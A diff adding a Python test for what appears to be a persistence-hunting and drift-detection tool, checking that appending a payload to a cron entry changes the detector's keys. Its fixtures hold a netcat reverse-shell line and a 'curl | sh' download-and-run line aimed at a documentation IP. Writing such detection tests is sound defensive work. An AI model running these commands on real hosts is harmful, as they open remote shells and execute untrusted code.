@@ -115,3 +115,14 @@ def test_a_payload_appended_past_the_key_length_is_new(root):
     (root / "etc/cron.d/job").write_text(base + "; nc -e /bin/sh 192.0.2.1 1\n")
     after = set(dr.observe_cron(view(run_drift(root))))
     assert after != before and all(len(k) <= dr.MAX_TEXT for k in after)
+
+
+def test_a_payload_added_after_three_rated_lines_changes_the_persistence_key():
+    from hardening.hunt.persistence import score_entry
+
+    lines = tuple((n, f"curl -s http://192.0.2.1/{n} | sh") for n in range(1, 4))
+    e = Entry("cron", "/etc/cron.hourly/sync", "root", 0, "755", 1.0, 10, "no", lines)
+    before = dr.observe_persistence(view(None, Persistence(findings=(score_entry(e, "cron"),), read=True)))
+    e2 = replace(e, lines=(*lines, (4, "nc -e /bin/sh 192.0.2.1 1")))
+    after = dr.observe_persistence(view(None, Persistence(findings=(score_entry(e2, "cron"),), read=True)))
+    assert set(after) != set(before)
